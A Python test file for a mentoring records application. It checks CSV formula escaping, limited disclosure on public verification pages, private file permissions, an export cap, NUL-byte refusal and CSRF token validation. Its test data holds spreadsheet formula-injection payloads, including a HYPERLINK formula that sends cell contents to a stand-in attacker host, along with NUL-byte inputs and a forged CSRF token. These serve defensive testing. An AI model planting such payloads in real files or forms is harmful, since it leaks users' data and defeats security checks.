"""Issue 12, the small items: CSV cells spreadsheets cannot run, public verification that discloses only what it
needs, private files, a cap on bulk exports, short refusals, NUL bytes and the API's CSRF check."""

import csv
import html
import io
import json
import os
import re
import stat
import zipfile
from datetime import timedelta

import pytest
from sqlalchemy import text, update
from sqlmodel import select

from exports import bulk, formats, verify
from exports.models import CompletionRecord, ExportJob
from mentoring.clock import utcnow
from mentoring.people.models import Organization, Person
from mentoring.progress import signoffs
from mentoring.progress.models import ProgressEvent
from tasklists.documents import PROGRAMS, TaskListDoc, TaskRow, default_rule
from tasklists.files import TaskListFileError, parse_csv, to_csv
from tasklists.models import ShopTask, ShopTaskList, ShopTaskListVersion, TaskListTemplate
from web.db import Database

from .conftest import actor_for, count_rows
from .test_credentials import issue, sign_area
from .test_records import export, sign

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', "-5", "@x", "'=y", "+1 for brakes", "''-z",
            "=1+1", "@SUM(A1:A9)"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def raw_cells(data: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data)) for cell in row]


# --- A. CSV cells that spreadsheets cannot run, and exact values on the way back ----------------------------

def formula_list() -> TaskListDoc:
    levels = PROGRAMS["automobile"]
    rows = tuple(
        TaskRow("V", FORMULAS[0], "B", FORMULAS[1], f"S.V.B.{i}", value, "P-1", levels, i % 2 == 0,
                FORMULAS[(i + 2) % len(FORMULAS)] if i % 2 == 0 else "", FORMULAS[(i + 3) % len(FORMULAS)], None)
        for i, value in enumerate(FORMULAS, start=1))
    return TaskListDoc("automobile", "'=y", "2024", levels, default_rule("2024"), rows)


def test_a_task_list_csv_runs_no_formula_and_imports_back_unchanged():
    doc = formula_list()
    written = to_csv(doc)
    assert all(not cell.startswith(TRIGGERS) for cell in raw_cells(written))
    assert '"\'=HYPERLINK(""http://evil.example' in written and '"\'-5"' in written and '"\'\'=y"' in written
    assert parse_csv(written.encode()) == doc


def test_a_task_list_exported_from_the_page_imports_back_unchanged(browser, world, assigned):
    doc = formula_list()
    browser.login(world.manager.email)
    imported = browser.post(f"/shops/{world.shop.id}/tasklists/import", {"import_name": "=Shop list"},
                            files={"file": ("formulas.csv", to_csv(doc).encode(), "text/csv")})
    assert imported.status_code == 303, imported.text[:2000]
    exported = browser.get(imported.headers["location"] + "/export?fmt=csv")
    assert exported.status_code == 200
    assert all(not cell.startswith(TRIGGERS) for cell in raw_cells(exported.text))
    assert parse_csv(exported.content).rows == doc.rows


def test_the_record_csv_runs_no_formula_and_reads_back_as_the_record_states(clean_db, world, assigned, browser):
    with clean_db.transaction() as db:
        db.exec(update(Person).where(Person.id == world.mentee.id).values(full_name=FORMULAS[0]))
        db.exec(update(Person).where(Person.id == world.mentor.id).values(full_name="-Milo Mentor"))
        db.exec(update(Organization).where(Organization.id == world.shop.id).values(name="@x Riverside"))
        version = db.get(ShopTaskListVersion, assigned.version_id)
        db.exec(update(ShopTaskList).where(ShopTaskList.id == version.list_id).values(name="'=y"))
        db.exec(update(ShopTask).where(ShopTask.version_id == version.id, ShopTask.area_code == "0")
                .values(area_title="+Safety"))
    sign(clean_db, world.mentor, assigned, ["0.A.1"])
    exported = export(clean_db, world.manager, assigned, "csv")
    assert all(not cell.startswith(TRIGGERS) for cell in raw_cells(exported.data.decode("utf-8-sig")))
    rows = formats.read_csv(exported.data)
    signed = next(r for r in rows if r["code"] == "0.A.1")
    assert (signed["mentee"], signed["shop"], signed["task_list"], signed["area_title"], signed["signed_by"]) == (
        FORMULAS[0], "@x Riverside", "'=y", "+Safety", "-Milo Mentor")
    document = export(clean_db, world.manager, assigned, "json").data
    assert len(rows) == sum(len(a["tasks"]) for a in json.loads(document)["record"]["areas"])
    with clean_db.session() as db:
        verdict = verify.verify_bytes(db, exported.data)
    assert verdict.authentic and verdict.status == "current" and verdict.record.code == exported.code
    browser.get("/verify")
    uploaded = browser.client.post("/verify", data={"_csrf_token": browser.client.cookies["csrftoken"]},
                                   files={"file": ("record.csv", exported.data, "text/csv")})
    assert "Authentic and current" in uploaded.text and "-Milo Mentor" in uploaded.text


# --- B. Public verification discloses only what verification needs -----------------------------------------

SIGNOFF_REASON = "Canary-signoff-reason-Q7"
RECORD_REASON = "Canary-record-withdrawn-K3"
CREDENTIAL_REASON = "Canary-credential-reason-Z9"
HIDDEN = ("Lakeview College", "Ivy Instructor", SIGNOFF_REASON, RECORD_REASON, CREDENTIAL_REASON,
          "Can teach others")  # rating 5's label


@pytest.fixture
def public_record(clean_db, world, assigned, browser):
    """Tess's record with everything a stranger must not read: a school and instructor, a revoked sign-off
    and a withdrawn record with reasons, a revoked credential with a reason, and ratings of 5."""
    sign_area(clean_db, world, assigned, "VIII", rating=5)
    sign(clean_db, world.mentor, assigned, ["0.A.1", "0.A.2"], rating=5)
    with clean_db.transaction() as db:
        signoffs.revoke(db, actor_for(clean_db, world.manager), assigned.id, "0.A.2", reason=SIGNOFF_REASON)
    withdrawn = export(clean_db, world.manager, assigned, "pdf")
    cred = next(c for c in issue(clean_db, world.manager, assigned) if c.kind == "area")
    browser.login(world.manager.email)
    with clean_db.session() as db:
        record_id = db.exec(select(CompletionRecord.id).where(CompletionRecord.code == withdrawn.code)).one()
    assert browser.post(f"/records/{record_id}/revoke", {"reason": RECORD_REASON}).status_code == 303
    assert browser.post(f"/credentials/{cred.id}/revoke", {"reason": CREDENTIAL_REASON}).status_code == 303
    browser.logout()
    current = export(clean_db, world.manager, assigned, "json")
    return withdrawn, current, cred


def stranger_sees(browser, world, withdrawn, current, cred) -> list[str]:
    browser.get("/verify")
    token = browser.client.cookies["csrftoken"]
    return [
        browser.get(f"/verify/{current.code}").text,
        browser.get(f"/verify/{withdrawn.code}").text,
        browser.client.post("/verify", data={"_csrf_token": token},
                            files={"file": ("r.json", current.data, "application/json")}).text,
        browser.client.post("/verify", data={"_csrf_token": token, "text": withdrawn.code}).text,
        browser.client.post("/verify", data={"_csrf_token": token, "text": cred.token}).text,
        browser.get(f"/orgs/{world.shop.id}/credentials/revocations.json").text,
    ]


def test_a_stranger_reads_who_what_when_and_who_signed_but_nothing_else(browser, world, public_record):
    withdrawn, current, cred = public_record
    pages = stranger_sees(browser, world, *public_record)
    for page in pages:
        for hidden in HIDDEN:
            assert hidden not in page, hidden
    current_page, withdrawn_page, upload_page, pasted_page, cred_page, revocations = pages
    for page in (current_page, upload_page):
        assert "Authentic and current" in page
        for shown in ("Tess Mentee", "Riverside Toyota", 'id="task-0.A.1"', "Milo Mentor", "performed and observed",
                      "MLR", current.code):
            assert shown in page, shown
        assert "<th>Rating</th>" not in page
    assert "Authentic, but revoked" in withdrawn_page and "Withdrawn by the shop on" in withdrawn_page
    assert "Authentic, but revoked" in pasted_page and "Authentic, but revoked" in cred_page
    assert f"urn:uuid:{cred.uuid}" in revocations


def test_the_mentee_chooses_to_show_ratings_and_nobody_else_can(clean_db, browser, world, assigned, public_record):
    withdrawn, current, cred = public_record
    url = f"/assignments/{assigned.id}/records"
    browser.login(world.manager.email)
    assert browser.post(f"{url}/disclosure", {"show_ratings": "on"}).status_code == 403
    browser.logout()
    browser.login(world.mentee.email)
    assert "Show my ratings to people who verify my records" in browser.get(url).text
    assert browser.post(f"{url}/disclosure", {"show_ratings": "on"}).status_code == 303
    browser.logout()
    with clean_db.session() as db:
        assert db.get(Person, world.mentee.id).show_ratings_to_verifiers
    page = browser.get(f"/verify/{current.code}").text
    assert "<th>Rating</th>" in page and "5 · Can teach others" in page
    for hidden in HIDDEN[:-1]:
        assert hidden not in page
    browser.login(world.mentee.email)
    assert browser.post(f"{url}/disclosure", {}).status_code == 303  # unticked: hidden again
    assert "Can teach others" not in browser.get(f"/verify/{current.code}").text


# --- C. Private files ------------------------------------------------------------------------------------

@pytest.fixture
def umask_022():
    previous = os.umask(0o022)  # the usual default, under which new files are world-readable
    yield
    os.umask(previous)


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_the_sqlite_file_and_its_wal_and_shm_are_private(tmp_path, umask_022):
    path = tmp_path / "private.sqlite3"
    database = Database(f"sqlite:///{path}")
    try:
        with database.transaction() as db:
            db.exec(text("CREATE TABLE t (x INTEGER)"))
            db.exec(text("INSERT INTO t VALUES (1)"))
        with database.engine.connect() as conn:  # keeps the -wal and -shm files while it is open
            assert conn.exec_driver_sql("SELECT x FROM t").scalar() == 1
            for suffix in ("", "-wal", "-shm"):
                assert mode(f"{path}{suffix}") == 0o600, suffix
    finally:
        database.dispose()


def test_the_bulk_export_zip_is_private(clean_db, world, assigned, tmp_path, umask_022):
    sign(clean_db, world.mentor, assigned, ["0.A.1"])
    with clean_db.transaction() as db:
        job = bulk.start_job(db, actor_for(clean_db, world.manager), db.get(Organization, world.shop.id))
    bulk.run_job(clean_db.transaction, job.id, actor_for(clean_db, world.manager), tmp_path,
                 "http://127.0.0.1:8000", "test-secret-" + "x" * 40)
    with clean_db.session() as db:
        assert db.get(ExportJob, job.id).status == "done"
    assert mode(tmp_path / job.file_name) == 0o600
    assert len(zipfile.ZipFile(tmp_path / job.file_name).namelist()) == 3


# --- C. Two bulk exports per shop at a time ------------------------------------------------------------------

def test_a_third_concurrent_bulk_export_is_refused_on_the_page(clean_db, world, browser):
    with clean_db.transaction() as db:
        for status in ("queued", "running"):
            db.add(ExportJob(shop_id=world.shop.id, requested_by_id=world.manager.id, status=status,
                             file_name=f"records-{status}.zip"))
        # a job cut off by a restart long ago, and another shop's running job, do not count
        db.add(ExportJob(shop_id=world.shop.id, status="running", file_name="old.zip",
                         created_at=utcnow() - timedelta(hours=3)))
        db.add(ExportJob(shop_id=world.other_shop.id, status="running", file_name="theirs.zip"))
    browser.login(world.manager.email)
    refused = browser.post(f"/shops/{world.shop.id}/exports")
    assert refused.status_code == 429
    assert "2 exports of this shop are still running" in refused.text and "Start the export" in refused.text
    with clean_db.session() as db:
        assert len(db.exec(select(ExportJob).where(ExportJob.shop_id == world.shop.id)).all()) == 3
    with clean_db.transaction() as db:
        finished = db.exec(select(ExportJob).where(ExportJob.status == "queued")).one()
        finished.status, finished.finished_at = "done", utcnow()
        db.add(finished)
    assert browser.post(f"/shops/{world.shop.id}/exports").status_code == 303


# --- C. A refused import lists the first 50 problems -----------------------------------------------------------

def test_a_refused_import_lists_the_first_50_problems_and_counts_the_rest(browser, world):
    lines = to_csv(formula_list()).splitlines()
    bad = "\n".join([lines[0]] + [lines[1].replace(",P-1,", ",P-9,")] * 3000) + "\n"  # every row wrong
    with pytest.raises(TaskListFileError) as refused:
        parse_csv(bad.encode())
    problems = [str(p) for p in refused.value.problems]
    browser.login(world.manager.email)
    page = browser.post(f"/shops/{world.shop.id}/tasklists/import", {},
                        files={"file": ("bad.csv", bad.encode(), "text/csv")})
    assert page.status_code == 400 and "bad.csv was refused; nothing was imported." in page.text
    listed = page.text.split('<ul class="problems">')[1].split("</ul>")[0]
    assert [html.unescape(li) for li in re.findall(r"<li>(.*?)</li>", listed)] == problems[:50]
    assert problems[0].startswith("line 2, priority")  # with their line numbers, in file order
    assert f"… and {len(problems) - 50} more problems not listed here" in page.text
    assert len(page.content) < 60_000


# --- C. NUL bytes are refused on every database ------------------------------------------------------------------

def test_a_nul_byte_in_a_form_is_refused_before_anything_is_stored(clean_db, world, assigned, browser):
    browser.login(world.manager.email)
    before = count_rows(clean_db)
    with clean_db.session() as db:
        template = db.exec(select(TaskListTemplate).where(TaskListTemplate.program == "automobile")).first()
    form = {"template_id": str(template.id), "level": "MLR", "name": "Our\x00list"}
    response = browser.post(f"/shops/{world.shop.id}/tasklists", form)
    assert response.status_code == 400 and "NUL byte" in response.text and "Error 400" in response.text
    assert count_rows(clean_db) == before
    assert browser.get("/manager?q=a%00b").status_code == 400  # a query string too


def test_a_nul_byte_in_api_json_is_refused_with_the_field_named(clean_db, world, assigned, browser):
    browser.login(world.mentee.email)
    before = count_rows(clean_db)
    response = browser.client.post(f"/api/v1/assignments/{assigned.id}/events",
                                   json={"task_code": "I.A.1", "kind": "comment", "note": "oil\x00change"},
                                   headers={"x-csrftoken": browser.client.cookies["csrftoken"]})
    assert response.status_code == 422 and response.json()["errors"] == {
        "note": "Contains a NUL byte, which cannot be stored; remove it."}
    assert count_rows(clean_db) == before
    with clean_db.session() as db:
        assert db.exec(select(ProgressEvent)).all() == []


# --- C. The API's CSRF check accepts only tokens this server issued -------------------------------------------

def test_a_made_up_csrf_token_matching_a_made_up_cookie_is_refused(clean_db, world, assigned, browser):
    browser.login(world.mentee.email)
    url = f"/api/v1/assignments/{assigned.id}/events"
    body = {"task_code": "I.A.1", "kind": "comment", "note": "checked the torque"}
    jar = browser.client.cookies
    real = jar["csrftoken"]
    made_up = "a" * 64 + "b" * 64  # the shape of a real token, but not signed by this server
    jar.delete("csrftoken")
    jar.set("csrftoken", made_up)
    before = count_rows(clean_db)
    assert browser.client.post(url, json=body, headers={"x-csrftoken": made_up}).status_code == 403
    assert count_rows(clean_db) == before
    jar.delete("csrftoken")
    jar.set("csrftoken", real)
    assert browser.client.post(url, json=body, headers={"x-csrftoken": real}).status_code == 201


def test_a_bulk_export_and_a_checkpoint_at_the_same_moment_both_finish(clean_db, world, monkeypatch):
    """Found by CI on PostgreSQL: the export's shop lock (taken first) against a checkpoint writer holding the
    audit table's lock and inserting rows that point at the shop. They must queue, not deadlock."""
    import threading

    from exports import checkpoints

    failures, writers, count = [], [], bulk.running_jobs

    def write_checkpoint():
        try:
            with clean_db.transaction() as db:
                checkpoints.write_checkpoint(db, world.shop.id, secret="test-secret-" + "x" * 40,
                                             base_url="http://127.0.0.1:8000")
        except Exception as exc:  # noqa: BLE001 (reported below, whatever it is)
            failures.append(exc)

    def running_jobs_while_a_checkpoint_starts(db, shop_id):
        # start_job holds the shop's lock here, before it writes its audit entry
        writer = threading.Thread(target=write_checkpoint)
        writers.append(writer)
        writer.start()
        writer.join(1.5)  # past PostgreSQL's deadlock_timeout (1 s), or done
        return count(db, shop_id)

    monkeypatch.setattr(bulk, "running_jobs", running_jobs_while_a_checkpoint_starts)
    try:
        with clean_db.transaction() as db:
            job = bulk.start_job(db, actor_for(clean_db, world.manager), db.get(Organization, world.shop.id))
    except Exception as exc:  # noqa: BLE001
        failures.append(exc)
    for writer in writers:
        writer.join(10)
    assert len(writers) == 1 and failures == []
    with clean_db.session() as db:
        assert db.get(ExportJob, job.id) is not None
